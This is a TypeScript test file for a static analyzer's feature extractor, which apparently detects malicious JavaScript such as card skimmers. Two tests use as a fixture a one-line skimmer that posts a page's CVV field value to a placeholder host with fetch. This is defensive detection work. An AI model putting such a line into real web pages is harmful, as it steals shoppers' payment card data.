import assert from 'node:assert/strict';
import fc from 'fast-check';
import { collectFacts } from '../../../../analyzer/static/facts.ts';
import {
  extractFeatures,
  featureGroups,
  featureNames,
  featureSchemaHash,
} from '../../../../analyzer/static/features/index.ts';
import { factsOf, featuresOf } from './features-of.ts';

describe('features', () => {
  it('have names of their own', () => {
    assert.equal(new Set(featureNames).size, featureNames.length);
    assert.match(featureSchemaHash, /^[0-9a-f]{64}$/);
  });

  for (const group of featureGroups) {
    it(`${group.name}: one finite number for each name, whatever the text`, () => {
      const piece = fc.constantFrom(
        'var a = "x";',
        'fetch(b.value);',
        '<html>',
        'function f() {',
        '}',
        '`${',
        '[1, 2]',
        '\ud800',
        '_0x1f["a"]',
        '',
        '\0',
        '(',
        ')',
      );
      fc.assert(
        fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
          const numbers = group.extract(factsOf(pieces.join(' ')));
          assert.equal(numbers.length, group.features.length);
          assert.ok(numbers.every(Number.isFinite));
        }),
      );
    });
  }

  it('see a small guilty part in a large library', () => {
    const library = Array.from(
      { length: 3000 },
      (_, i) => `function f${i}(a) { return a.b${i}.c + ${i}; }`,
    ).join('\n');
    const guilty = 'fetch("https://a.example", { body: document.querySelector("#cvv").value });';
    const feature = 'worst-place/both-card-network';
    assert.equal(featuresOf(library).get(feature), 0);
    assert.ok(featuresOf(library + guilty).get(feature)! > 0);
  });

  it('do not move with comments and renames of locals', () => {
    const one = featuresOf('(function (element) { fetch("/a", { body: element.value }) })(b)');
    const other = featuresOf('(function (e) { fetch("/a", { body: e.value }) })(b)');
    const isText = (name: string): boolean => /^source-text|local|short|share-of-text/.test(name);
    for (const [name, value] of one) if (!isText(name)) assert.equal(other.get(name), value, name);
  });

  it('come from tokens and strings when nothing parses', () => {
    const text = 'fetch("https://a.example", { body: document.querySelector("#cvv").value })';
    const vector = extractFeatures(collectFacts(text, { mode: 'none', program: null }));
    const found = new Map(featureNames.map((name, index) => [name.replace(/@\d+/, ''), vector[index]!]));
    assert.equal(found.get('source-text/mode-none'), 1);
    assert.ok(found.get('api-use/used-fetch')! > 0);
    assert.ok(found.get('words/distinct-card')! > 0);
    assert.ok(found.get('strings/hosts')! > 0);
  });
});
